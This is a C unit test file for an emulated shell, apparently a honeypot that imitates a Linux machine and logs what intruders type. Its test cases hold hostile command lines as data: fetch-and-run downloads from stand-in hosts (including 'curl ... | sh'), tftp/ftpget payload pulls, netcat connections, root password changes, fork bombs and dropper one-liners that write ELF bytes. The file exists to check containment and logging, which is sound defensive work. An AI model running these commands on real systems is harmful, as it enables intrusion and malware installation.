/* shell_test - limits, time, input and what stays from one shell to the next. */
#include "../test.h"
#include "../../interop/imitated.h"

struct screen {
	char text[20000];
	size_t size;
};

static void show(void *user, int fd, const void *data, size_t size)
{
	struct screen *s = user;

	(void)fd;
	if (size > sizeof(s->text) - 1 - s->size)
		size = sizeof(s->text) - 1 - s->size;
	memcpy(s->text + s->size, data, size);
	s->size += size;
	s->text[s->size] = '\0';
}

static int64_t clock_us = 1000000;

static int64_t now_us(void *user)
{
	(void)user;
	return clock_us;
}

struct machine {
	struct hin_fs_image *image;
	struct hin_fs *fs;
	struct hin_shell_machine facts;
	struct hin_shell_settings settings;
	struct screen screen;
};

static void machine_init(struct machine *m)
{
	static const char *const variables[] = { "PATH=/bin", "HOME=/root", NULL };
	static const struct hin_fs_quota quota = { 1 << 20, 200 };

	memset(m, 0, sizeof(*m));
	m->image = imitated_image();
	assert_non_null(m->image);
	m->fs = hin_fs_new(m->image, &quota);
	m->facts = (struct hin_shell_machine){ .hostname = "gate",
					       .system = "Linux",
					       .release = "6.1",
					       .version = "#1",
					       .hardware = "x86_64",
					       .now_us = now_us };
	m->settings = (struct hin_shell_settings){ .machine = &m->facts,
						   .fs = m->fs,
						   .name = "sh",
						   .variables = variables,
						   .folder = "/w",
						   .first_pid = 1000,
						   .limits = hin_shell_limits_default,
						   .output = show,
						   .user_data = &m->screen };
}

static void machine_fini(struct machine *m)
{
	hin_fs_free(m->fs);
	hin_fs_image_free(m->image);
}

static struct hin_shell *start(struct machine *m, const char *line)
{
	struct hin_shell *shell = hin_shell_new(&m->settings);

	assert_non_null(shell);
	m->screen.size = 0;
	m->screen.text[0] = '\0';
	assert_int_equal(hin_shell_command(shell, line, NULL), HIN_OK);
	return shell;
}

/* Run a line to its end; its status. */
static int run(struct machine *m, const char *line)
{
	struct hin_shell *shell = start(m, line);
	int status;

	hin_shell_input_end(shell);
	for (unsigned i = 0; hin_shell_run(shell, 10000) != HIN_SHELL_DONE; i++)
		assert_true(i < 100000);
	status = hin_shell_status(shell);
	hin_shell_free(shell);
	return status;
}

/* Nothing that an intruder types goes on for ever or takes all memory. */
static void limits_hold(void **state)
{
	static const struct {
		const char *line;
		int status;
	} cases[] = {
		{ "while :; do :; done", 137 },
		{ "f() { f | f & }; f; while :; do :; done", 137 },
		{ "yes > /w/f; echo $?", 137 },
		{ "x=a; while :; do x=$x$x; done", 137 },
		{ "x=$(yes)", 137 },
		{ "f() { f; }; f", 2 },
		{ "cat /dev/zero | sort; echo $?", 0 },
		{ "eval 'eval \"$x\"'; x='eval \"$x\"'; eval \"$x\"", 2 },
		{ "echo 'x' > /w/me; echo '. /w/me' > /w/me; . /w/me", 2 },
		{ "find /w -exec", 1 },
		{ "echo /w/self > /w/self; chmod +x /w/self; /w/self", 2 },
	};
	struct machine m;

	(void)state;
	for (size_t i = 0; i < HIN_COUNT(cases); i++) {
		int status;

		machine_init(&m);
		m.settings.limits.steps = 200000;
		status = run(&m, cases[i].line);
		if (status != cases[i].status)
			fail_msg("%s: %d, %s", cases[i].line, status, m.screen.text);
		machine_fini(&m);
	}
}

/* What was written is there for the next shell over the same files. */
static void files_stay(void **state)
{
	struct machine m;

	(void)state;
	machine_init(&m);
	assert_int_equal(run(&m, "echo kept > /tmp/x; mkdir /tmp/d"), 0);
	assert_int_equal(run(&m, "cat /tmp/x; ls -d /tmp/d"), 0);
	assert_string_equal(m.screen.text, "kept\n/tmp/d\n");
	machine_fini(&m);
}

static void waits_for_input_and_time(void **state)
{
	struct hin_shell *shell;
	struct machine m;

	(void)state;
	machine_init(&m);
	shell = start(&m, "read a; echo got $a; sleep 5; echo slept");
	assert_int_equal(hin_shell_run(shell, 10000), HIN_SHELL_READS);
	hin_shell_input(shell, "li", 2);
	assert_int_equal(hin_shell_run(shell, 10000), HIN_SHELL_READS);
	hin_shell_input(shell, "ne\n", 3);
	assert_int_equal(hin_shell_run(shell, 10000), HIN_SHELL_SLEEPS);
	assert_string_equal(m.screen.text, "got line\n");
	assert_int_equal(hin_shell_wakes_us(shell), clock_us + 5000000);
	assert_int_equal(hin_shell_run(shell, 10000), HIN_SHELL_SLEEPS);
	clock_us += 5000000;
	assert_int_equal(hin_shell_run(shell, 10000), HIN_SHELL_DONE);
	assert_string_equal(m.screen.text, "got line\nslept\n");
	hin_shell_free(shell);
	/* one that is left alone in the middle loses nothing */
	shell = start(&m, "sleep 1 | cat | (read x; (sleep 9)); yes | head -c 5 > /tmp/a");
	(void)hin_shell_run(shell, 100);
	hin_shell_free(shell);
	hin_shell_free(NULL);
	machine_fini(&m);
}

static void a_user_may_not_do_all(void **state)
{
	struct machine m;

	(void)state;
	machine_init(&m);
	m.settings.user = (struct hin_fs_user){ 33, 33 };
	assert_int_equal(run(&m, "echo x > /w/f"), 2);
	assert_string_equal(m.screen.text, "sh: 1: cannot create /w/f: Permission denied\n");
	assert_int_equal(run(&m, "echo x > /tmp/f && cat /tmp/f && rm -f /tmp/f && id -u"), 0);
	assert_string_equal(m.screen.text, "x\n33\n");
	machine_fini(&m);
}

/* ---- interactive ---- */

/* What was told, a line each. */
struct told {
	struct screen screen; /* first: show() takes it */
	char text[8000];
};

static void note(void *user, const struct hin_shell_event *e)
{
	struct told *t = user;
	size_t used = strlen(t->text), left = sizeof(t->text) - used;

	switch (e->kind) {
	case HIN_SHELL_DOWNLOAD:
		snprintf(t->text + used, left, "download %s %s %s %u %s %s\n", e->tool, e->scheme,
			 e->host, e->port, e->path, e->file);
		break;
	case HIN_SHELL_UPLOAD:
		snprintf(t->text + used, left, "upload %s %s %s\n", e->tool, e->host, e->file);
		break;
	case HIN_SHELL_CONNECT:
		if (strcmp(e->scheme, "dns") != 0)
			snprintf(t->text + used, left, "connect %s %s %s %u\n", e->tool, e->scheme,
				 e->host, e->port);
		break;
	case HIN_SHELL_FILE:
		snprintf(t->text + used, left, "file %s\n", e->file);
		break;
	case HIN_SHELL_EXECUTE:
		snprintf(t->text + used, left, "execute %s\n", e->file);
		break;
	case HIN_SHELL_CREDENTIAL:
		snprintf(t->text + used, left, "credential %s %s %s\n", e->tool, e->user,
			 e->password);
		break;
	case HIN_SHELL_KILL:
		snprintf(t->text + used, left, "kill %u %d\n", e->pid, e->signal);
		break;
	case HIN_SHELL_END_SESSION:
		snprintf(t->text + used, left, "end %s\n", e->tool);
		break;
	default:
		break;
	}
}

static struct hin_shell *open_terminal(struct machine *m, struct told *told)
{
	struct hin_shell *shell;

	memset(told, 0, sizeof(*told));
	m->facts.connect_ms = 20;
	m->settings.event = note;
	m->settings.user_data = told;
	m->settings.terminal = (struct hin_shell_terminal){ .is_terminal = true, .name = "pts/0" };
	shell = hin_shell_new(&m->settings);
	assert_non_null(shell);
	assert_int_equal(hin_shell_interactive(shell), HIN_OK);
	return shell;
}

/* Go on until it waits for input, letting time go by. */
static enum hin_shell_state drive(struct hin_shell *shell)
{
	for (unsigned i = 0; i < 100000; i++) {
		enum hin_shell_state state = hin_shell_run(shell, 100000);

		if (state == HIN_SHELL_READS || state == HIN_SHELL_DONE)
			return state;
		if (state == HIN_SHELL_SLEEPS)
			clock_us = hin_shell_wakes_us(shell);
	}
	fail_msg("it never waits");
	return HIN_SHELL_DONE;
}

static enum hin_shell_state type(struct hin_shell *shell, const char *text)
{
	hin_shell_input(shell, text, strlen(text));
	return drive(shell);
}

static void prompts_and_reads_lines(void **state)
{
	struct hin_shell *shell;
	struct told told;
	struct machine m;

	(void)state;
	machine_init(&m);
	shell = open_terminal(&m, &told);
	assert_int_equal(drive(shell), HIN_SHELL_READS);
	assert_true(hin_shell_prompts(shell));
	assert_string_equal(told.screen.text, "# ");
	type(shell, "echo a\nif true\n");
	assert_string_equal(told.screen.text, "# a\n# > ");
	type(shell, "then echo b; fi\nnosuch\n)\n");
	assert_string_equal(told.screen.text, "# a\n# > b\n# sh: 4: nosuch: not found\n"
					      "# sh: 5: Syntax error: \")\" unexpected\n# ");
	/* a shell in the shell: its exit leads back, and the prompt has no stack meanwhile */
	told.screen.size = 0;
	type(shell, "sh\nx=1\nexit 7\necho $? $x\n");
	assert_string_equal(told.screen.text, "# # # 7\n# ");
	/* a command reads what is typed until ^D */
	told.screen.size = 0;
	type(shell, "cat\nline\n");
	assert_false(hin_shell_prompts(shell));
	hin_shell_input_end(shell);
	drive(shell);
	assert_string_equal(told.screen.text, "line\n# ");
	hin_shell_input_end(shell);
	assert_int_equal(drive(shell), HIN_SHELL_DONE);
	assert_non_null(strstr(told.text, "end exit\n"));
	hin_shell_free(shell);
	machine_fini(&m);
}

static void signals_end_the_foreground(void **state)
{
	struct hin_shell *shell;
	struct told told;
	struct machine m;

	(void)state;
	machine_init(&m);
	shell = open_terminal(&m, &told);
	hin_shell_input(shell, "sleep 100; echo no\n", 19);
	assert_int_equal(hin_shell_run(shell, 10000), HIN_SHELL_SLEEPS);
	hin_shell_signal(shell, 2);
	assert_int_equal(hin_shell_run(shell, 10000), HIN_SHELL_READS);
	assert_string_equal(told.screen.text, "# \n# ");
	told.screen.size = 0;
	type(shell, "echo $?\n");
	assert_string_equal(told.screen.text, "130\n# ");
	/* ^Z leaves a job; ^C at the prompt a new one */
	told.screen.size = 0;
	hin_shell_input(shell, "sleep 100\n", 10);
	assert_int_equal(hin_shell_run(shell, 10000), HIN_SHELL_SLEEPS);
	hin_shell_signal(shell, 20);
	drive(shell);
	assert_non_null(strstr(told.screen.text, "Stopped"));
	told.screen.size = 0;
	hin_shell_input(shell, "typed", 5);
	hin_shell_signal(shell, 2);
	drive(shell);
	assert_string_equal(told.screen.text, "\n# ");
	/* what runs in the background stays */
	told.screen.size = 0;
	hin_shell_input(shell, "(sleep 1; echo late) &\n", 23);
	(void)hin_shell_run(shell, 10000);
	hin_shell_signal(shell, 2);
	drive(shell);
	assert_non_null(strstr(told.screen.text, "late\n"));
	hin_shell_free(shell);
	machine_fini(&m);
}

/* A command over its limit dies alone; the session's limit ends the session. */
static void a_command_dies_alone(void **state)
{
	struct hin_shell *shell;
	struct told told;
	struct machine m;

	(void)state;
	machine_init(&m);
	m.settings.limits.line_steps = 20000;
	shell = open_terminal(&m, &told);
	type(shell, "yes > /dev/null\necho $?\n");
	assert_string_equal(told.screen.text, "# Killed\n# 137\n# ");
	told.screen.size = 0;
	type(shell, "cat /dev/zero | sort\nwhile :; do :; done\necho alive\n");
	assert_non_null(strstr(told.screen.text, "alive\n"));
	assert_true(hin_shell_killed(shell) >= 3);
	hin_shell_free(shell);
	m.settings.limits.steps = 100000;
	shell = open_terminal(&m, &told);
	for (unsigned i = 0; i < 20 && type(shell, "yes >/dev/null\n") != HIN_SHELL_DONE; i++)
		assert_true(i < 19);
	hin_shell_free(shell);
	machine_fini(&m);
}

/* What would have left the machine is told, and fails; what was written is told, too. */
static void intents_are_told(void **state)
{
	static const struct {
		const char *line, *told;
	} cases[] = {
		{ "wget http://Evil.Example:8080/a/x.sh -O /tmp/x",
		  "download wget http evil.example 8080 /a/x.sh /tmp/x\n" },
		{ "cd /tmp; curl -sO ftp://192.0.2.7/b.bin",
		  "download curl ftp 192.0.2.7 21 /b.bin /tmp/b.bin\n" },
		{ "curl -s http://192.0.2.7/i.sh | sh",
		  "download curl http 192.0.2.7 80 /i.sh -\n" },
		{ "cd /w; tftp -g -l l -r r 192.0.2.8",
		  "download tftp tftp 192.0.2.8 69 /r /w/l\n" },
		{ "tftp 192.0.2.8 -c get mips", "download tftp tftp 192.0.2.8 69 /mips /w/mips\n" },
		{ "ftpget -u me -p pw 192.0.2.9 l r",
		  "download ftpget ftp 192.0.2.9 21 /r /w/l\ncredential ftpget me pw\n" },
		{ "curl - -O http://192.0.2.5/x", "download curl http 192.0.2.5 80 /x /w/x\n" },
		{ "scp f me@192.0.2.1:/tmp/", "upload scp 192.0.2.1 /w/f\n" },
		{ "nc 192.0.2.3 4444", "connect nc tcp 192.0.2.3 4444\n" },
		{ "ssh root@192.0.2.4", "connect ssh ssh 192.0.2.4 22\n" },
		{ "echo x > /tmp/f", "file /tmp/f\n" },
		{ "echo 'root:new' | chpasswd", "credential chpasswd root new\n" },
		{ "printf '\\177ELF' > /tmp/e; chmod +x /tmp/e; /tmp/e",
		  "file /tmp/e\nexecute /tmp/e\n" },
		{ "kill -9 412", "kill 412 9\n" },
		{ "reboot", "end reboot\n" },
	};
	struct told told;

	(void)state;
	for (size_t i = 0; i < HIN_COUNT(cases); i++) {
		struct machine m;
		struct hin_shell *shell;

		machine_init(&m);
		m.facts.dialect = HIN_SHELL_ASH;
		shell = open_terminal(&m, &told);
		m.facts.far = HIN_FAR_REFUSES;
		type(shell, "cd /w\n");
		type(shell, cases[i].line);
		type(shell, "\n");
		if (strstr(told.text, cases[i].told) == NULL)
			fail_msg("%s: told \"%s\", said \"%s\"", cases[i].line, told.text,
				 told.screen.text);
		hin_shell_free(shell);
		machine_fini(&m);
	}
}

/* Droppers' ways to make a file give exactly its bytes. */
static void droppers_give_their_bytes(void **state)
{
	static const char *const lines[] = {
		"echo -ne '\\x7f\\x45\\x4c\\x46\\x00\\xff' > /w/d",
		"echo -ne '\\x7f\\x45' > /w/d; echo -ne '\\x4c\\x46\\x00\\xff' >> /w/d",
		"/bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46\\x00\\xff' > /w/d",
		">/w/d; printf '\\177\\105\\114\\106\\000\\377' >> /w/d",
		"echo f0VMRgD/ | base64 -d > /w/d",
		"echo 7f454c4600ff | xxd -r -p > /w/d",
		"echo -ne '\\x7fELF\\0\\xff' | dd of=/w/d bs=3 2>/dev/null",
		"echo -e '\\x7f\\x45\\x4c\\x46\\x00\\xff\\c' > /w/x && cat /w/x > /w/d",
		"echo -ne '\\x7fELF\\x00\\xff' | gzip -c | gunzip > /w/d",
	};
	static const uint8_t want[] = { 0x7f, 'E', 'L', 'F', 0, 0xff };

	(void)state;
	for (size_t i = 0; i < HIN_COUNT(lines); i++) {
		struct hin_fs_user root = { 0, 0 };
		struct machine m;
		const uint8_t *bytes;
		uint32_t ino;
		size_t size;

		machine_init(&m);
		m.facts.dialect = HIN_SHELL_ASH;
		assert_int_equal(run(&m, lines[i]), 0);
		assert_int_equal(hin_fs_find(m.fs, &root, HIN_FS_ROOT, "/w/d", true, &ino), 0);
		bytes = hin_fs_bytes(m.fs, ino, &size);
		if (size != sizeof(want) || memcmp(bytes, want, size) != 0)
			fail_msg("%s: %zu bytes", lines[i], size);
		machine_fini(&m);
	}
}

/* /proc, ps, free and uptime say the same. */
static void the_machine_agrees(void **state)
{
	static const struct hin_machine_process processes[] = {
		{ .pid = 1, .command = "/sbin/init" },
		{ .pid = 77,
		  .parent = 1,
		  .command = "/usr/sbin/thingd -x",
		  .exe = "/usr/sbin/thingd" },
	};
	static const struct {
		const char *line, *said;
	} cases[] = {
		{ "cat /proc/77/comm; readlink /proc/77/exe; tr '\\0' ' ' < /proc/77/cmdline",
		  "thingd\n/usr/sbin/thingd\n/usr/sbin/thingd -x " },
		{ "ps -e -o pid,args | grep '[t]hingd' | awk '{print $1}'", "77\n" },
		{ "grep MemTotal /proc/meminfo | awk '{print $2}'; free | awk '/Mem/{print $2}'",
		  "4096000\n4096000\n" },
		{ "grep -c ^processor /proc/cpuinfo; nproc", "3\n3\n" },
		{ "cut -d. -f1 /proc/uptime", "5000\n" },
		{ "cat /proc/self/comm; readlink /proc/self; echo $$", NULL },
		{ "kill 77; ps -e | grep -c thingd; ls /proc | grep -c '^77$'", "0\n0\n" },
		{ "ls /proc/net/tcp; mkdir /proc/x 2>/dev/null || echo no", "/proc/net/tcp\nno\n" },
	};

	(void)state;
	for (size_t i = 0; i < HIN_COUNT(cases); i++) {
		struct machine m;

		machine_init(&m);
		clock_us = INT64_C(1700005000) * 1000000;
		m.facts.boot_s = 1700000000;
		m.facts.processes = processes;
		m.facts.process_count = HIN_COUNT(processes);
		m.facts.memory_kib = 4096000;
		m.facts.cpu_count = 3;
		(void)run(&m, cases[i].line);
		if (cases[i].said != NULL && strcmp(m.screen.text, cases[i].said) != 0)
			fail_msg("%s: %s", cases[i].line, m.screen.text);
		machine_fini(&m);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(limits_hold),
		cmocka_unit_test(files_stay),
		cmocka_unit_test(waits_for_input_and_time),
		cmocka_unit_test(a_user_may_not_do_all),
		cmocka_unit_test(prompts_and_reads_lines),
		cmocka_unit_test(signals_end_the_foreground),
		cmocka_unit_test(a_command_dies_alone),
		cmocka_unit_test(intents_are_told),
		cmocka_unit_test(droppers_give_their_bytes),
		cmocka_unit_test(the_machine_agrees),
	};

	return cmocka_run_group_tests_name("shell", tests, NULL, NULL);
}
